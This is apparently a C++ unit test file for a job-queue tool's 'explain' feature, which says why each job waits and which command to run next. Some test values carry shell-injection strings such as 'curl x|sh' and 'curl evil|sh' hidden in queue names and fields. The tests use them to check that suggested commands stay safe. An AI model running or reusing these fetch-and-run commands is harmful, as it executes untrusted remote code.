// For every waiting job, explain() names one reason, its evidence and the next action. The facts are artificial; no
// store is used.
#include "inspect/explain.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <set>

#include "unit/situations.h"

namespace mycojobs {
namespace {

using namespace test;
using ::testing::Contains;
using ::testing::HasSubstr;
using ::testing::IsEmpty;
using ::testing::Not;

struct Case {
  std::string name;
  JobSituation about;
  std::string state, cause, reason, next;  // `reason` and `next` are substrings of the expected texts
  std::string evidence = "";
};

template <class Change>
JobSituation with(JobSituation about, Change change) {
  change(about);
  return about;
}

std::vector<Case> unclaimed_cases() {
  const auto remove_record = [](JobSituation& s) {
    s.job.record.clear(), s.job.record_type = "none", s.job.queue_entry_count = 0;
  };
  const auto missing = with(make_pushed(), remove_record);
  const auto letter = [](JobSituation& s) {
    s.dead_letter = DeadLetter{"5-0", "job:12:7", "queue:v", "no_record", kNow};
  };
  const auto shell = [](JobSituation& s) { s.job.queue_entry_count = 0, s.queue = "queue:v;curl x|sh `id`"; };
  return {
      {"nothing", missing, "unknown", "no_such_job", "job:12:7", "job list"},
      {"in database 0", with(missing, [](JobSituation& s) { s.is_in_database_0 = true, s.context = s.database = 3; }),
       "unknown", "in_database_0", "is in database 0, and the jobs of context 3 are in database 3",
       "redis-cli MOVE job:12:7 3`, then `redis-cli -n 3 LPUSH queue:v job:12:7`", "a record in database 0"},
      {"a list", with(make_pushed(), [](JobSituation& s) { s.job.record_type = "list"; }), "unknown", "wrong_type",
       "is a list where a hash", "DEL job:12:7"},
      {"a claim that is text", with(make_pushed(), [](JobSituation& s) { s.job.claim_type = "string"; }), "unknown",
       "wrong_type", "mj:claim:job:12:7 is a string", "doctor --rebuild"},
      {"entry first", with(missing, [](JobSituation& s) { s.job.awaits_record = true; }), "missing", "record_awaited",
       "its record has not been written yet", "HSET job:12:7"},
      {"record after its entry was put aside",
       with(make_pushed(), [](JobSituation& s) { s.job.awaits_record = true, s.job.queue_entry_count = 0; }), "missing",
       "record_awaited", "was written after its key", "start an agent"},
      {"no record came", with(missing, letter), "missing", "record_never_came", "queue:v", "queue dead --requeue 5-0",
       "dead letter 5-0: no_record"},
      {"record deleted", with(make_claimed("queued"), remove_record), "missing", "record_deleted", "was deleted",
       "write the record"},
      {"bare record of a type that a shell would run", with(make_pushed(), shell), "unqueued", "not_queued",
       "in no queue", "LPUSH 'queue:v;curl x|sh '\"$(printf '\\140')\"'id'"},
      {"bare record",
       with(make_pushed(), [](JobSituation& s) { s.job.queue_entry_count = 0, s.context = s.database = 3; }),
       "unqueued", "not_queued", "in no queue", "redis-cli -n 3 LPUSH queue:v job:12:7", "not in queue:v"},
      {"no type", with(make_pushed(), [](JobSituation& s) { s.job.queue_entry_count = 0, s.queue.clear(); }),
       "unqueued", "no_script_type", "script_type", "HSET job:12:7 script_type"},
      {"another system's",
       with(make_pushed(), [](JobSituation& s) { s.job.queue_entry_count = 0, set_field(s, "status", "started"); }),
       "unqueued", "started_elsewhere", "no runner of mycojobs", "LPUSH"},
      {"another system's end", with(make_pushed(), [](JobSituation& s) { set_field(s, "status", "finished"); }),
       "ended", "ended_elsewhere", "has the status finished", "another id"},
  };
}

std::vector<Case> queued_cases() {
  const auto serve = [](std::vector<RunnerInfo> runners) {
    return with(make_pushed(), [&](JobSituation& s) { s.runners = std::move(runners); });
  };
  RunnerInfo silent = make_runner(21, {"v"});
  silent.hold_remaining_ms = 0;
  RunnerInfo stopped_runner = make_runner(22, {"v"});
  stopped_runner.holder = {}, stopped_runner.hold_remaining_ms = 0;
  RunnerInfo topic_only = make_runner(23, {"v"});
  topic_only.runner.local = false;
  RunnerInfo refused = make_runner(25, {"v"}), refused_earlier = make_runner(26, {"v"}),
             without_actor = make_runner(27, {"v"});
  refused.runner.actor_id = 12;
  const std::uint64_t now = make_pushed().job.now_ms;
  refused.runner.unknown = without_actor.runner.unknown = {{"refused_ms", std::to_string(now - 500)}};
  refused_earlier.runner.unknown = {{"refused_ms", std::to_string(now - std::min<std::uint64_t>(now, 61000))}};
  RunnerInfo short_of_descriptors = make_runner(28, {"v"});
  short_of_descriptors.runner.detail = "paused: out of descriptors: raise the limit";
  const auto own = [](Id runner_id, std::vector<RunnerInfo> runners) {
    return with(make_claimed("queued"), [&](JobSituation& s) {
      s.queue = s.job.claim.queue = "mj:queue:runner" + std::to_string(runner_id);
      s.runners = std::move(runners), s.entries_ahead = 0;
    });
  };
  return {
      {"paused", with(serve({make_runner(20, {"v"})}), [](JobSituation& s) { s.is_queue_paused = true; }), "queued",
       "queue_paused", "queue:v is paused", "queue resume v", "position 2 of 3"},
      {"nobody at all", serve({}), "queued", "no_runner", "no runner serves queue:v", "start an agent",
       "no runner of this context is alive"},
      {"others only", serve({make_runner(20, {"python", "sal"})}), "queued", "no_runner", "no runner serves queue:v",
       "start an agent that runs v", "live runners serve queue:python, queue:sal"},
      {"the one that served it is silent", serve({make_runner(20, {"python"}), silent}), "queued", "no_runner",
       "no runner serves", "start an agent", "runner 21 on host-a (silent for 12 s)"},
      {"the one that served it has left", serve({stopped_runner}), "queued", "no_runner", "no runner serves",
       "start an agent", "runner 22 (has left)"},
      {"takes from its topic only", serve({topic_only}), "queued", "no_runner", "no runner serves", "start an agent"},
      {"may not run jobs here", serve({refused}), "queued", "runner_refused",
       "its actor 12 may not run jobs of context", "--executor 12", "lists the allowed actors: executors, admins"},
      {"is no actor", serve({without_actor}), "queued", "runner_refused", "without an actor it may not run jobs",
       "runner_actor"},
      {"its host is short", serve({short_of_descriptors}), "queued", "runner_paused",
       "claims no jobs now: out of descriptors", "check the host host-a", "it claims no jobs: out of descriptors"},
      {"beside a runner that can", serve({short_of_descriptors, make_runner(24, {"v"}, 1, 1)}), "queued", "slots_busy",
       "of the runner that serves", "wait", "it claims no jobs: out of descriptors"},
      {"may run jobs again", serve({refused_earlier, refused}), "queued", "behind_others", "1 job precedes it", "wait"},
      {"busy", serve({make_runner(20, {"v"}, 2, 2), make_runner(24, {"v"}, 1, 1)}), "queued", "slots_busy", "2 runners",
       "wait", "runner 20 on host-a (2 of 2 slots busy)"},
      {"more claims than slots", serve({make_runner(20, {"v"}, 2, 3)}), "queued", "slots_busy", "serves queue:v",
       "wait", "runner 20 on host-a (2 of 2 slots busy, 1 claimed ahead)"},
      {"behind", serve({make_runner(20, {"v"})}), "queued", "behind_others", "1 job precedes it", "wait"},
      {"far behind", with(serve({make_runner(20, {"v"})}), [](JobSituation& s) { s.entries_ahead.reset(); }), "queued",
       "behind_others", "very many", "wait"},
      {"next", with(serve({make_runner(20, {"v"})}), [](JobSituation& s) { s.entries_ahead = 0; }), "queued", "next",
       "next one", "repeat the command"},
      {"queued again", with(make_claimed("queued"), [](JobSituation& s) { s.job.claim.reason = "expired"; }), "queued",
       "no_runner", "no runner", "start", "delivery 1 ended without a report (expired)"},
      {"retried", with(make_claimed("queued"), [](JobSituation& s) { s.job.claim.reason = "requeued"; }), "queued",
       "no_runner", "no runner", "start", "was returned by requeued"},
      {"pushed twice", with(make_pushed(), [](JobSituation& s) { s.job.queue_entry_count = 2; }), "queued", "no_runner",
       "no runner", "start", "is in the queue 2 times"},
      {"priority",
       with(make_claimed("queued"),
            [](JobSituation& s) { s.job.queue_entry_count = 0, s.job.in_priority_index = true; }),
       "queued", "no_runner", "no runner", "start"},
      {"high priority, alone",
       with(serve({make_runner(20, {"v"})}),
            [](JobSituation& s) {
              s.job.queue_entry_count = 0, s.entries_ahead.reset(), s.job.in_priority_index = true,
              s.priority_count = 1;
              set_field(s, "priority", "5");
            }),
       "queued", "next", "next one", "repeat the command", "priority 5: beside queue:v"},
      {"low priority, behind the list",
       with(serve({make_runner(20, {"v"})}),
            [](JobSituation& s) {
              s.job.queue_entry_count = 0, s.entries_ahead.reset(), s.job.in_priority_index = true,
              s.priority_count = 2;
              set_field(s, "priority", "-5");
            }),
       "queued", "behind_others", "at most 4 jobs precede it", "wait", "with 1 other job that"},
      {"first of the list, behind a priority",
       with(serve({make_runner(20, {"v"})}), [](JobSituation& s) { s.entries_ahead = 0, s.priority_count = 2; }),
       "queued", "behind_others", "at most 2 jobs", "wait", "2 jobs with a priority"},
      {"entry taken by another client",
       with(make_claimed("queued"), [](JobSituation& s) { s.job.queue_entry_count = 0; }), "queued", "place_lost",
       "should be in queue:v", "doctor --rebuild"},
      {"own queue of a runner that is away", own(20, {make_runner(21, {"v"})}), "queued", "no_runner",
       "no runner serves mj:queue:runner20", "start the runner that this queue belongs to"},
      {"own queue of a runner that is there", own(20, {make_runner(20, {"v"})}), "queued", "next", "next one",
       "repeat the command"},
  };
}

std::vector<Case> live_cases() {
  const auto change = [](auto set_fields) { return with(make_live(), set_fields); };
  return {
      {"running", make_live(), "live", "running", "runner 20 has it", "job logs --follow", "its lease ends in 4 s"},
      {"since", make_live(), "live", "running", "runner 20", "job cancel",
       "claimed 90 s ago; time limit the runner's default"},
      {"cancelling", change([](JobSituation& s) { s.job.claim.cancel_requested = true; }), "live", "cancelling", "TERM",
       "grace time"},
      {"unkillable",
       change([](JobSituation& s) { set_field(s, "detail", "unkillable"), s.job.claim.cancel_requested = true; }),
       "live", "unkillable", "does not end on KILL", "host of runner 20"},
      {"upload", change([](JobSituation& s) { set_field(s, "detail", "artifact_store"); }), "live", "artifact_store",
       "runner 20 uploads its artifacts", "wait"},
      {"failing upload", change([](JobSituation& s) {
         set_field(s, "detail", "artifact_store");
         s.job.claim_fields = {{"mark_reason", "s3://bucket: SlowDown"}, {"mark_since", "1000"}};
       }),
       "live", "artifact_store", "has failed since", "artifacts.store_timeout", "s3://bucket: SlowDown"},
      {"runner silent", change([](JobSituation& s) { s.runners[0].hold_remaining_ms = 0; }), "live", "runner_silent",
       "sends no heartbeat", "start an agent", "silent for 12 s"},
      {"runner silent, others alive", change([](JobSituation& s) {
         s.runners[0].hold_remaining_ms = 0, s.job.claim.cancel_requested = true;
         s.runners.push_back(make_runner(21, {"python"}));
       }),
       "live", "runner_silent", "sends no heartbeat", "wait 4 s", "a cancellation was requested"},
      {"runner started anew", change([](JobSituation& s) { s.runners[0].holder.instance = "instance-b"; }), "live",
       "runner_silent", "sends no heartbeat", "wait 4 s", "runner 20 was restarted on host-a"},
      {"agent gone", change([](JobSituation& s) { s.has_owner_ended = true; }), "live", "runner_silent",
       "it is not running: the agent of runner 20 that claimed it has ended", "returns it to its queue at once",
       "has ended on this host"},
      {"agent gone, cancelled",
       change([](JobSituation& s) { s.has_owner_ended = true, s.job.claim.cancel_requested = true; }), "live",
       "runner_silent", "it is not running", "it ends it at once", "has ended on this host"},
      {"no registration", change([](JobSituation& s) { s.runners.clear(); }), "live", "runner_silent", "runner 20",
       "start an agent", "no registration"},
      {"lease over, others alive", change([](JobSituation& s) {
         s.job.claim.lease_until_ms = kNow - 3000;
         s.runners[0].hold_remaining_ms = 0;
         s.runners.push_back(make_runner(21, {"python"}));
       }),
       "live", "lease_over", "its lease has expired", "wait: any agent"},
      {"lease over, nobody alive",
       change([](JobSituation& s) { s.job.claim.lease_until_ms = kNow - 3000, s.runners[0].hold_remaining_ms = 0; }),
       "live", "lease_over", "its lease has expired", "start an agent"},
      {"record deleted", change([](JobSituation& s) { s.job.record_type = "none", s.job.record.clear(); }), "live",
       "running", "runner 20", "wait", "its record was deleted"},
      {"not in the index", change([](JobSituation& s) { s.job.lease_until_ms.reset(); }), "live", "place_lost",
       "leases", "doctor --rebuild"},
  };
}

std::vector<Case> parked_cases() {
  const auto later = [](std::uint64_t due) {
    return with(make_claimed("delayed"),
                [due](JobSituation& s) { s.job.due_ms = due, set_field(s, "detail", "delayed"); });
  };
  const auto retry = with(later(kNow + 4000), [](JobSituation& s) {
    set_field(s, "detail", "retry_wait"), set_field(s, "retries", "3"), set_field(s, "error", "exit code 1"),
        s.job.claim.attempt = 2;
  });
  const auto inputs = with(later(kNow + 1000), [](JobSituation& s) {
    set_field(s, "detail", "inputs");
    s.job.claim_fields = {{"holder", "30"},
                          {"holder_since", std::to_string(kNow - 60'000)},
                          {"holder_until", std::to_string(kNow + 7'200'000)}};
  });
  const auto condition = with(make_claimed("prerequisites"), [](JobSituation& s) {
    s.job.check_ms = kNow + 2000, set_field(s, "prerequisites", R"(["file:/data/ready","wait:30s"])");
  });
  const auto alive = [](JobSituation& s) { s.runners = {make_runner(20, {"python"})}; };
  auto circle = make_waiting({make_other_job("job:12:8", "waiting")});
  circle.cycle = {"job:12:7", "job:12:8", "job:12:7"};
  return {
      {"later", later(kNow + 7'200'000), "delayed", "postponed", "in 2 h (2023-11-15T00:13:20Z)", "job cancel"},
      {"quota", with(later(kNow + 9000), [](JobSituation& s) { set_field(s, "detail", "quota"); }), "delayed", "quota",
       "keep more than a quota allows", "job delete"},
      {"inputs", inputs, "delayed", "inputs",
       "runner 30, which has not sent them since 2023-11-14T22:12:20Z (60 s ago)", "start the agent of runner 30",
       "artifact_lost at 2023-11-15T00:13:20Z"},
      {"retry", retry, "delayed", "retry_wait", "in 4 s", "wait", "attempt 2 of 4"},
      {"retry tells the last error", retry, "delayed", "retry_wait", "in 4 s", "wait", "last error: exit code 1"},
      {"due, nobody alive", later(kNow - 9000), "delayed", "due", "no agent is alive", "start an agent"},
      {"due", with(later(kNow - 1), alive), "delayed", "due", "it is due", "repeat the command"},
      {"delay lost", make_claimed("delayed"), "delayed", "place_lost", "delays", "doctor --rebuild"},
      {"depends", make_waiting({make_other_job("job:12:8", "live"), make_other_job("job:12:9", "queued")}), "waiting",
       "dependencies", "2 jobs that it depends on have not ended", "job explain 12:8", "job:12:8 is live"},
      {"depends on nothing", make_waiting({make_other_job("job:12:8", "live"), make_other_job("job:12:9", "")}),
       "waiting", "dependency_absent", "job:12:9, which does not exist", "job submit FILE --caller 12 --id 9"},
      {"circle", circle, "waiting", "cycle", "job:12:7 -> job:12:8 -> job:12:7", "job cancel 12:7"},
      {"waits lost", make_claimed("waiting"), "waiting", "place_lost", "wait for others", "doctor --rebuild"},
      {"condition", with(condition, alive), "prerequisites", "not_met", "file:/data/ready, wait:30s", "make them true",
       "checked again in 2 s"},
      {"nobody looks", condition, "prerequisites", "not_checked", "no process is running that checks them",
       "start an agent", "prerequisite: wait:30s"},
      {"condition lost", make_claimed("prerequisites"), "prerequisites", "place_lost", "prerequisites",
       "doctor --rebuild"},
      {"planned", with(make_claimed("planned"), [](JobSituation& s) { s.job.claim.flow = "1 33"; }), "planned", "flow",
       "waits for its flow 33", "mycojobs flow explain 33", "of flow:33"},
      {"away", with(make_claimed("planned"), [](JobSituation& s) { s.job.claim.message = "message:12:101"; }),
       "planned", "away", "to another context", "mycojobs message show 12:101", "of message:12:101"},
      {"slots", with(make_held(), [](JobSituation& s) { s.slot_owners = {"job:12:1"}; }), "held", "slots_taken",
       "1 of 1 job that concurrency key db allows runs now", "job explain 12:1", "runs: job:12:1"},
      {"no taker", make_held(), "held", "slot_free", "no job of that key runs", "doctor --rebuild"},
      {"hold lost", make_claimed("held"), "held", "place_lost", "concurrency key", "doctor --rebuild"},
  };
}

std::vector<Case> ended_cases() {
  const auto never_ran = with(make_ended("error", "timeout"), [](JobSituation& s) { s.job.claim.epoch = 0; });
  return {
      {"finished", make_ended("finished", "ok"), "ended", "finished", "it has finished", "job show 12:7",
       "ended 5 s ago"},
      {"exception", make_ended("error", "exception"), "ended", "failed", "exception: what went wrong",
       "fix the script and submit it again; `mycojobs job retry 12:7` runs it again unchanged; `mycojobs job logs "
       "12:7`"},
      {"timeout", make_ended("error", "timeout"), "ended", "failed", "timeout", "more time"},
      {"oom", make_ended("error", "oom"), "ended", "failed", "oom", "sandbox.memory"},
      {"a detail of somebody's own", make_ended("error", "bored"), "ended", "failed", "bored",
       "apply the remedy in its error"},
      {"cancelled", make_ended("error", "cancelled"), "ended", "cancelled", "permanent", "submit it again"},
      {"dead letter",
       with(make_ended("error", "dead_letter"),
            [](JobSituation& s) {
              s.dead_letter = DeadLetter{"6-0", "job:12:7", "queue:v", "crash_loop", kNow};
            }),
       "ended", "dead_letter", "what went wrong", "job retry 12:7", "dead letter 6-0: crash_loop"},
      {"dependency", make_ended("error", "dependency_failed"), "ended", "dependency_failed", "depends on failed",
       "that job first"},
      {"prerequisite", make_ended("error", "prerequisite"), "ended", "prerequisite", "never be met", "job retry"},
      {"policy", make_ended("error", "policy_refused"), "ended", "policy_refused", "was refused: what went wrong",
       "HSET job:12:7 policy"},
      {"waited too long", never_ran, "ended", "queue_timeout", "no runner claimed it in time", "runner list"},
      {"skipped by its flow",
       with(make_ended("error", "skipped"), [](JobSituation& s) { s.job.claim.flow = "1 33", s.job.claim.epoch = 0; }),
       "ended", "settled_by_flow", "no runner ever had it: what went wrong", "mycojobs flow explain 33"},
      {"status overwritten",
       with(make_ended("finished", "ok"), [](JobSituation& s) { set_field(s, "status", "dispatched"); }), "ended",
       "finished", "it has finished", "nothing", "overwritten its status"},
      {"record deleted after the end",
       with(make_ended("error", "exit"), [](JobSituation& s) { s.job.record_type = "none", s.job.record.clear(); }),
       "ended", "failed", "exit", "job retry", "its record was deleted"},
  };
}

std::vector<Case> all_cases() {
  std::vector<Case> all;
  for (const auto& part : {unclaimed_cases(), queued_cases(), live_cases(), parked_cases(), ended_cases()}) {
    all.insert(all.end(), part.begin(), part.end());
  }
  return all;
}

TEST(Explain, NamesReasonEvidenceAndNextAction) {
  for (const Case& each : all_cases()) {
    SCOPED_TRACE(each.name);
    const Explanation out = explain(each.about);
    EXPECT_EQ(out.job_key, "job:12:7");
    EXPECT_EQ(out.state, each.state);
    EXPECT_EQ(out.cause, each.cause);
    EXPECT_THAT(out.reason, HasSubstr(each.reason));
    EXPECT_THAT(out.next_action, HasSubstr(each.next));
    EXPECT_THAT(out.evidence, Not(IsEmpty())) << "the explanation has no evidence";
    EXPECT_THAT(out.evidence, Contains(HasSubstr(each.evidence)));
  }
}

TEST(Explain, CausesAndTableRowsMatch) {
  std::set<std::pair<std::string, std::string>> rows;
  for (const CauseRow& row : causes()) rows.emplace(row.state, row.cause);
  auto never = rows;
  for (const Case& each : all_cases()) {
    const Explanation out = explain(each.about);
    const std::pair row(out.state, out.cause);
    const std::pair any(std::string("*"), out.cause);
    EXPECT_TRUE(rows.contains(row) || rows.contains(any)) << out.state << " " << out.cause;
    never.erase(row);
    never.erase(any);
  }
  for (const auto& [state, cause] : never) ADD_FAILURE() << "no case gives " << state << " " << cause;
}

TEST(Explain, ReportsAnomaliesThatNameTheJob) {
  JobSituation about = make_pushed();
  about.anomalies = {"job:12:7 is odd"};
  EXPECT_THAT(explain(about).evidence, Contains("recorded anomaly: job:12:7 is odd"));
}

TEST(Explain, CommandsNameANonDefaultContext) {
  JobSituation about = make_ended("error", "exit");
  EXPECT_THAT(explain(about).next_action, HasSubstr("`mycojobs job retry 12:7`"));
  about.context = 3;
  EXPECT_THAT(explain(about).next_action, HasSubstr("`mycojobs job retry 12:7 --context 3`"));
}

TEST(Explain, ManyDependenciesAreCountedNotListed) {
  std::vector<JobStoreState> awaited;
  for (int i = 1; i <= 500; ++i) awaited.push_back(make_other_job("job:12:" + std::to_string(1000 + i), "queued"));
  const Explanation out = explain(make_waiting(awaited));
  EXPECT_LT(out.evidence.size(), 15U);
  EXPECT_THAT(out.evidence, Contains("and 490 more"));
}

TEST(Explain, ReportsThePreviousRunsOfAWarmProcess) {
  JobSituation about = make_claimed("ended");
  about.job.claim.status = "finished";
  const std::string words = "it was warm: its process had served 3 jobs before";
  EXPECT_THAT(explain(about).evidence, Not(Contains(words)));
  set_field(about, "receipt", R"({"reused":3})");
  EXPECT_THAT(explain(about).evidence, Contains(words));
}

// The page offers text between backticks as a command to copy.
TEST(Explain, ForeignNamesCreateNoCommand) {
  const std::string hostile = "x`curl evil|sh`y";
  for (const Case& each : all_cases()) {
    SCOPED_TRACE(each.name);
    JobSituation about = each.about;
    for (const char* name : {"name", "error", "concurrency_key"}) set_field(about, name, hostile);
    set_field(about, "prerequisites", R"(["approval:)" + hostile + R"("])");
    if (!about.queue.empty()) about.queue = "queue:" + hostile;
    if (!about.job.claim.queue.empty()) about.job.claim.queue = "queue:" + hostile;
    about.job.held_by_keys = {hostile};
    EXPECT_THAT(explain(about).next_action, Not(HasSubstr("`curl")));
  }
}

TEST(Explain, InvalidPrerequisitesAreShownUnchanged) {
  JobSituation about = make_claimed("prerequisites");
  about.job.check_ms = kNow;
  set_field(about, "prerequisites", "[oops");
  EXPECT_THAT(explain(about).evidence, Contains("prerequisite: [oops"));
}

}  // namespace
}  // namespace mycojobs
